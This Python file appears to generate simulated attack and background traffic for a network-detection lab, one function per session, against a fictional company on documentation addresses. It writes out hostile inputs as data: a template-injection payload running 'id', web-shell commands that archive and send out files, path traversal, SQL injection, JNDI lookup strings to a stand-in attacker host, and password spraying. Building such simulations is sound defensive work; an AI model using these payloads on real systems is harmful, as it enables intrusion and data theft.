"""What happens on the wire, one function per recorded session.

Times within a session are short; the demo stretches them when it replays one.
"""

from __future__ import annotations

import base64
import hashlib
import time
from collections.abc import Callable
from pathlib import Path
from typing import Final

from lab import ask, datagram, echo, http, http_answer, http_server, speak, tcp_server, tls, tls_server, touch

WEB, MAIL, VPN = "192.0.2.10", "192.0.2.25", "192.0.2.30"
SHOP, DB, FILES, DC, PKI = "10.20.1.10", "10.20.0.21", "10.20.0.31", "10.20.0.10", "10.20.0.13"
CLIENT, OTHER, PLC = "10.20.10.41", "10.20.11.17", "10.20.13.52"
BAD, BOT, DROP, CONTROL, PAGE = "198.51.100.23", "198.51.100.77", "203.0.113.66", "203.0.113.45", "203.0.113.88"
NEIGHBOURS: Final = ["10.20.0.21", "10.20.0.31", "10.20.0.32", "10.20.0.10", "10.20.0.41", "10.20.0.13", "10.20.0.22"]
ADDRESSES: Final = [WEB, MAIL, VPN, SHOP, CLIENT, OTHER, PLC, BAD, BOT, DROP, CONTROL, PAGE, *NEIGHBOURS]
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
SHOP_HOST = "shop.norrvik.example"

SESSIONS: Final[dict[str, Callable[[Path], None]]] = {}


def session(function: Callable[[Path], None]) -> Callable[[Path], None]:
    SESSIONS[function.__name__.replace("_", "-")] = function
    return function


def page(_head: bytes, _body: bytes) -> bytes:
    return http_answer("200 OK", b"<html><body>Norrvik Instruments</body></html>")


def missing(_head: bytes, _body: bytes) -> bytes:
    return http_answer("404 Not Found", b"<html><body>nothing here</body></html>")


@session
def sweep_outside(_: Path) -> None:
    for port in (21, 22, 23, 25, 80, 81, 110, 135, 139, 143, 443, 445, 1433, 3306, 3389, 5060, 5432, 5900, 8080, 8443):
        touch(BAD, WEB, port)


@session
def web_probe(_: Path) -> None:
    paths = ["/admin/", "/backup.zip", "/.env", "/.git/config", "/static/..%2f..%2f..%2fetc/passwd"]
    paths += ["/catalogue?id=7%20union%20select%20name,pass%20from%20staff", "/media/", "/media/render"]
    with http_server(WEB, missing):
        for path in paths:
            http(BAD, WEB, f"GET {path}", SHOP_HOST, "dirwalk/1.4 (+https://dirwalk.example)")
            time.sleep(0.15)


@session
def web_exploit(_: Path) -> None:
    def answer(head: bytes, _body: bytes) -> bytes:
        if b"/media/render" in head or b"k=id" in head:
            return http_answer("200 OK", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "text/plain")
        return http_answer("200 OK", b"Linux nv-web-01 6.1.0-21-amd64 x86_64 GNU/Linux\n", "text/plain")

    payload = b"name=cover.png&caption={{ self.init.globals.os.popen('id').read() }}"
    with http_server(WEB, answer):
        http(BAD, WEB, "POST /media/render", SHOP_HOST, "curl/8.5.0", payload)
        for command in ("id", "uname%20-a", "cat%20/srv/shop/settings.py", "ip%20route"):
            time.sleep(0.3)
            http(BAD, WEB, f"GET /media/cache/a91f.php?k={command}", SHOP_HOST, "curl/8.5.0")


@session
def web_shell_later(_: Path) -> None:
    with http_server(WEB, page):
        for command in ("tar%20cz%20/srv/shop", "curl%20-F%20f=@/tmp/.c.7z", "rm%20/tmp/.c.7z"):
            http(BAD, WEB, f"GET /media/cache/a91f.php?k={command}", SHOP_HOST, "curl/8.5.0")
            time.sleep(0.3)


@session
def sweep_inside(_: Path) -> None:
    for port in (22, 135, 445, 1433, 3306, 3389, 5432):
        for neighbour in NEIGHBOURS:
            touch(SHOP, neighbour, port)


@session
def ssh_guessing_inside(_: Path) -> None:
    def sshd(connection: object) -> None:
        connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n")  # type: ignore[attr-defined]
        connection.recv(255)  # type: ignore[attr-defined]

    with tcp_server(DB, 22, sshd):
        for _n in range(14):
            speak(SHOP, DB, 22, b"SSH-2.0-Go\r\n")
            time.sleep(0.1)


@session
def ssh_guessing_outside(_: Path) -> None:
    def sshd(connection: object) -> None:
        connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n")  # type: ignore[attr-defined]
        connection.recv(255)  # type: ignore[attr-defined]

    with tcp_server(WEB, 22, sshd):
        for _n in range(12):
            speak(BOT, WEB, 22, b"SSH-2.0-libssh_0.9.6\r\n")
            time.sleep(0.1)


@session
def archive_upload(_: Path) -> None:
    with http_server(DROP, lambda _h, _b: http_answer("201 Created", b"ok", "text/plain")):
        for part in ("customers.7z.001", "customers.7z.002", "orders.7z.001"):
            noise = hashlib.shake_256(part.encode()).digest(60_000)
            head = f'--q7\r\nContent-Disposition: form-data; name="f"; filename="{part}"\r\n\r\n'.encode()
            kind = "Content-Type: multipart/form-data; boundary=q7\r\n"
            http(
                SHOP,
                DROP,
                "POST /in/4471",
                "drop.paperlantern.example",
                "curl/8.5.0",
                head + noise + b"\r\n--q7--",
                kind,
            )
            time.sleep(0.2)


@session
def phish_login(_: Path) -> None:
    host = "norrvik-billing.example"
    with http_server(PAGE, page):
        http(OTHER, PAGE, "GET /invoice/88213", host, BROWSER)
        body = b"login=ingrid.solheim%40norrvik.example&passwd=not-a-real-one&doc=88213"
        http(OTHER, PAGE, "POST /invoice/88213", host, BROWSER, body, f"Referer: http://{host}/invoice/88213\r\n")


@session
def installer_download(_: Path) -> None:
    stub = b"MZ\x90\x00" + b"\x00" * 74 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 40
    program = stub + hashlib.shake_256(b"pagepress").digest(48_000)

    def answer(_head: bytes, _body: bytes) -> bytes:
        named = 'Content-Disposition: attachment; filename="PagePress-Setup.exe"\r\n'
        return http_answer("200 OK", program, "application/octet-stream", named)

    with http_server(PAGE, answer):
        http(CLIENT, PAGE, "GET /get/PagePress-Setup.exe", "pagepress-download.example", BROWSER)


@session
def control_poll(_: Path) -> None:
    with http_server(CONTROL, lambda _h, _b: http_answer("200 OK", b"0", "text/plain")):
        for _n in range(6):
            http(
                CLIENT, CONTROL, "GET /sync/v2/poll?sid=7f31c9a2", "edge.lumensync.example", "Mozilla/5.0 (compatible)"
            )
            time.sleep(0.2)


@session
def control_tls(cert: Path) -> None:
    with tls_server(CONTROL, cert):
        for _n in range(2):
            tls(CLIENT, CONTROL, "edge.lumensync.example")
            time.sleep(0.2)


@session
def replication_request(_: Path) -> None:
    bind = bytes.fromhex("05000b03100000004800000001000000b810b810000000000100000000000100")
    bind += bytes.fromhex("354251e3064bd111ab0400c04fc2dcd204000000045d888aeb1cc9119fe808002b10486002000000")
    with tcp_server(DC, 49667, lambda c: (c.recv(999), c.sendall(b"\x05\x00\x0c\x03"))[1]):
        speak(CLIENT, DC, 49667, bind)


def smb_negotiate(share: str = "") -> bytes:
    head = b"\xfeSMB" + b"\x40\x00" + bytes(58)
    body = head + b"\x24\x00\x02\x00\x01\x00" + bytes(30) + b"\x02\x02\x10\x02" + share.encode("utf-16le")
    return len(body).to_bytes(4, "big") + body


@session
def admin_share(_: Path) -> None:
    with tcp_server(FILES, 445, lambda c: (c.recv(999), c.sendall(bytes(4) + b"\xfeSMB" + bytes(60)))[1]):
        speak(CLIENT, FILES, 445, smb_negotiate("\\\\nv-fs-01\\ADMIN$"))


@session
def share_spread(_: Path) -> None:
    for last in range(53, 64):
        touch(PLC, f"10.20.13.{last}", 445)


@session
def worm_names(_: Path) -> None:
    for number, name in enumerate(("cfg.duskmoth.example", "duskmoth-relay.example")):
        ask(PLC, DC, name, 700 + number)
    for number in range(16):
        made = hashlib.sha256(f"moth{number}".encode()).hexdigest()[:14]
        ask(PLC, DC, f"{made}.example", 720 + number)


@session
def name_tunnel(_: Path) -> None:
    for number in range(5):
        text = hashlib.shake_256(f"tunnel{number}".encode()).hexdigest(44)
        ask(CLIENT, DC, f"{text[:44]}.{text[44:]}.t.quietbrook.example", 800 + number, "203.0.113.9")


@session
def consent_page(cert: Path) -> None:
    with tls_server(PAGE, cert):
        tls(OTHER, PAGE, "consent.teamsheet.example")


@session
def personal_upload(cert: Path) -> None:
    with tls_server(DROP, cert):
        for _n in range(3):
            tls(CLIENT, DROP, "upload.bigbox.example", b"PUT /x HTTP/1.1\r\n\r\n" + bytes(90_000))


@session
def webmail_refusals(_: Path) -> None:
    refused = http_answer("401 Unauthorized", b"", extra='WWW-Authenticate: Basic realm="mail"\r\n')
    with http_server(MAIL, lambda _h, _b: refused):
        for number in range(14):
            code = base64.b64encode(f"user{number}:Summer".encode()).decode()
            auth = f"Authorization: Basic {code}\r\n"
            http(BOT, MAIL, "GET /ews/exchange.asmx", "mail.norrvik.example", "okhttp/3.12", b"", auth)


@session
def gateway_burst(cert: Path) -> None:
    with tls_server(VPN, cert):
        for _n in range(10):
            tls(BOT, VPN, "vpn.norrvik.example")


@session
def directory_search(_: Path) -> None:
    query = b"0\x5c\x02\x01\x02\x63\x57\x04\x15dc=norrvik,dc=example\x0a\x01\x02\x0a\x01\x00\x02\x01\x00\x02\x01\x00"
    query += b"\x01\x01\x00\xa3\x1d\x04\x14servicePrincipalName\x04\x05NVSQL0\x00"
    with tcp_server(
        DC, 389, lambda c: (c.recv(999), c.sendall(b"0\x0c\x02\x01\x02\x65\x07\x0a\x01\x00\x04\x00\x04\x00"))[1]
    ):
        speak(CLIENT, DC, 389, query)


@session
def remote_shell(_: Path) -> None:
    with http_server(FILES, page, 5985):
        speak(CLIENT, FILES, 5985, b"POST /wsman HTTP/1.1\r\nHost: nv-fs-01\r\nContent-Length: 4\r\n\r\n<s/>")


@session
def certificate_request(_: Path) -> None:
    with http_server(PKI, page):
        http(CLIENT, PKI, "POST /certsrv/certfnsh.asp", "nv-pki-01.corp.norrvik.example", "Mozilla/5.0", b"Mode=newreq")


# --- everyday noise


@session
def telnet_knock(_: Path) -> None:
    touch(BOT, WEB, 23)


@session
def desktop_knock(_: Path) -> None:
    touch(BOT, VPN, 3389)


@session
def environment_hunt(_: Path) -> None:
    with http_server(WEB, missing):
        for path in ("/.env", "/app/.env", "/.git/config", "/wp-login.php"):
            http(BOT, WEB, f"GET {path}", "192.0.2.10", "Mozilla/5.0 zgrab-like/0.x")
            time.sleep(0.2)


@session
def blog_hunt(_: Path) -> None:
    with http_server(WEB, missing):
        http(BOT, WEB, "GET /wp-login.php", SHOP_HOST, "Mozilla/5.0 (X11; Linux x86_64)")


@session
def naming_lookup(_: Path) -> None:
    with http_server(WEB, page):
        lure = "X-Api-Version: ${jndi:ldap://198.51.100.77:1389/a}\r\n"
        http(BOT, WEB, "GET /", SHOP_HOST, "Mozilla/5.0", b"", lure)


@session
def injection_probe(_: Path) -> None:
    with http_server(WEB, missing):
        for query in ("id=1%20UNION%20SELECT%20null,null", "id=-1%20union%20select%201,2,3"):
            http(BOT, WEB, f"GET /catalogue?{query}", SHOP_HOST, "Mozilla/5.0 (compatible; pricecheck)")
            time.sleep(0.2)


@session
def telephone_probe(_: Path) -> None:
    text = "OPTIONS sip:100@192.0.2.30 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.77:5071\r\nUser-Agent: friendly\r\n\r\n"
    datagram(BOT, VPN, 5060, text.encode(), 5071)


@session
def management_probe(_: Path) -> None:
    asked = "302602010104067075626c6963a019020426a1b2c3020100020100300b300906052b060102010500"
    datagram(BOT, VPN, 161, bytes.fromhex(asked))


@session
def toolbar(_: Path) -> None:
    with http_server(PAGE, page):
        for path in ("/t?v=3.1&aff=778", "/offers?c=NO"):
            http(OTHER, PAGE, f"GET {path}", "ping.couponpal.example", "CouponPal/3.1 (Windows)")
            time.sleep(0.2)


@session
def script_fetch(_: Path) -> None:
    with http_server(PAGE, page):
        http(CLIENT, PAGE, "GET /simple/pyvisa/", "mirror.wheelhouse.example", "Python-urllib/3.11")


@session
def program_fetch(_: Path) -> None:
    program = b"MZ\x90\x00" + b"\x00" * 74 + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(900)

    def answer(_head: bytes, _body: bytes) -> bytes:
        return http_answer("200 OK", program, "application/octet-stream")

    with http_server(PAGE, answer):
        http(CLIENT, PAGE, "GET /drivers/scope-usb-2.14.exe", "downloads.oscilla.example", BROWSER)


@session
def expired_partner(cert: Path) -> None:
    with tls_server(PAGE, cert.with_name("expired.pem")):
        tls(OTHER, PAGE, "edi.freightline.example")


@session
def expired_inside(cert: Path) -> None:
    with tls_server("10.20.0.41", cert.with_name("expired.pem")):
        tls(CLIENT, "10.20.0.41", "nv-print-01.corp.norrvik.example")


@session
def peer_discovery(_: Path) -> None:
    for number in range(3):
        peer = hashlib.shake_256(f"peer{number}".encode()).digest(20)
        datagram(CLIENT, DROP, 6881, b"d1:ad2:id20:" + peer + b"e1:q4:ping1:t2:aa1:y1:qe")


@session
def private_resolver(cert: Path) -> None:
    with tls_server(PAGE, cert):
        tls(CLIENT, PAGE, "doh.quietresolver.example")


@session
def support_tool(cert: Path) -> None:
    with tls_server(PAGE, cert):
        tls(OTHER, PAGE, "relay2.deskreach.example")


@session
def own_address(_: Path) -> None:
    with http_server(PAGE, page):
        http(CLIENT, PAGE, "GET /plain", "myaddress.example", "curl/8.5.0")


@session
def dynamic_name(_: Path) -> None:
    ask(OTHER, DC, "heating-cabin.homehost.example", 901, "198.51.100.201")


@session
def plain_ftp(_: Path) -> None:
    def ftpd(connection: object) -> None:
        connection.sendall(b"220 lab plotter\r\n")  # type: ignore[attr-defined]
        for answer in (b"331 go on\r\n", b"230 in\r\n"):
            connection.recv(255)  # type: ignore[attr-defined]
            connection.sendall(answer)  # type: ignore[attr-defined]

    with tcp_server("10.20.0.41", 21, ftpd):
        speak(CLIENT, "10.20.0.41", 21, b"USER plot\r\n", b"PASS plot\r\n", b"QUIT\r\n")


@session
def plain_telnet(_: Path) -> None:
    def telnetd(connection: object) -> None:
        for text in (b"gauge-7 login: ", b"login: no such user\r\ngauge-7 login: "):
            connection.sendall(text)  # type: ignore[attr-defined]
            connection.recv(255)  # type: ignore[attr-defined]

    with tcp_server("10.20.13.60", 23, telnetd):
        speak(PLC, "10.20.13.60", 23, b"operator\r\n", b"plc\r\n")


@session
def plain_password(_: Path) -> None:
    with http_server("10.20.0.41", page):
        http(
            CLIENT,
            "10.20.0.41",
            "GET /queue",
            "nv-print-01.corp.norrvik.example",
            BROWSER,
            b"",
            "Authorization: Basic cHJpbnQ6cHJpbnQ=\r\n",
        )


@session
def large_echo(_: Path) -> None:
    for number in range(2):
        echo(CLIENT, FILES, number, bytes(1300))
        time.sleep(0.2)


@session
def mining_pool(_: Path) -> None:
    hello = b'{"id":1,"method":"mining.subscribe","params":["quarry/2.1"]}\n'
    with tcp_server(DROP, 3333, lambda c: (c.recv(999), c.sendall(b'{"id":1,"result":[]}\n'))[1]):
        speak(CLIENT, DROP, 3333, hello)


@session
def scanner_round(_: Path) -> None:
    for port in (
        21,
        22,
        23,
        25,
        80,
        110,
        135,
        139,
        143,
        389,
        443,
        445,
        636,
        1433,
        3306,
        3389,
        5432,
        5900,
        5985,
        8080,
        8443,
        9100,
    ):
        touch("10.20.250.10", FILES, port)
    with http_server("10.20.0.22", missing):
        for query in ("id=1%20union%20select%201", "q=%27%20union%20select%20@@version"):
            http("10.20.250.10", "10.20.0.22", f"GET /?{query}", "10.20.0.22", "Tidegate-Scan/6.2")
        http(
            "10.20.250.10",
            "10.20.0.22",
            "GET /",
            "10.20.0.22",
            "Tidegate-Scan/6.2",
            b"",
            "X-Probe: ${jndi:dns://10.20.250.10/x}\r\n",
        )


ADDRESSES += ["10.20.250.10", "10.20.13.60", *[f"10.20.13.{last}" for last in range(53, 64) if last != 60]]
